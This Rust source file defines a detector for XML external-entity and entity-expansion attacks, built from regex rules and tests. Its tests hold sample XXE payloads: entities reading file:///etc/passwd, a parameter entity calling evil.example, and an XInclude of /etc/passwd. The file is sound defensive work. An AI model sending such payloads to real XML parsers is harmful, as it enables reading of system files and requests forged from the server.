//! External entities of XML (CWE-611, CWE-776; OWASP WSTG-INPV-07): a document type that fetches something or grows without end.

use super::{
    BuildError, Family, Marks, Rule,
    lexicon::Lexicon,
    rules::{Simple, always},
};
use crate::model::places::Role;

/// Documents, and values that are parsed as such further in.
const WHERE: &[Role] = &[Role::Value, Role::Name, Role::Document];

pub(super) const RULES: &[Rule] = &[
    always(
        "external-type",
        r#"<!DOCTYPE[^>\[]*\b(?:SYSTEM\s*["']|PUBLIC\s*["'](?:[^-"']|-[^/]))"#,
    ),
    always(
        "entity",
        r#"<!ENTITY\b\s*%?\s*[\w.-]+\s+(?:SYSTEM|PUBLIC|["'])|!ENTITY\b.{0,30}\bSYSTEM\b"#,
    ),
    always(
        "include",
        r#"<\w*:?include\b[^>]*\bhref\s*=[^>]*\bparse=|http://www\.w3\.org/2001/XInclude|<\?xml-stylesheet\b[^>]*href=["'](?:https?:)?//"#,
    ),
    always("schema", r#"\bschemaLocation\s*=\s*["'][^"']*\shttps?://\w{16,}\."#),
    // WordPress lets anyone make it call others (CVE-2013-0235)
    always("pingback", r"<methodName>\s*pingback\.ping"),
];

/// The detector.
pub(super) fn detector(lexicon: &mut Lexicon) -> Result<Simple, BuildError> {
    Simple::new(Family::Xxe, Marks::ANGLE.and(Marks::OTHER), WHERE, RULES, lexicon)
}

#[cfg(test)]
mod tests {
    use super::super::tests::{assert_finds, assert_passes};

    #[test]
    fn attacks_are_found() {
        assert_finds(
            "xxe",
            &[
                r##"<!DOCTYPE x SYSTEM "//x/x"><x/>"##,
                r##"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"##,
                r##"<!ENTITY % a PUBLIC "x" "http://evil.example/">"##,
                r##"<!DOCTYPE lolz [<!ENTITY lol "lol">]>"##,
                r##"<xi:include href="file:///etc/passwd" parse="text"/>"##,
            ],
        );
    }

    #[test]
    fn look_alikes_pass() {
        assert_passes(&[
            r##"<!DOCTYPE html>"##,
            r##"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">"##,
            r##"<a>text</a>"##,
            r##"the entity system"##,
        ]);
    }
}
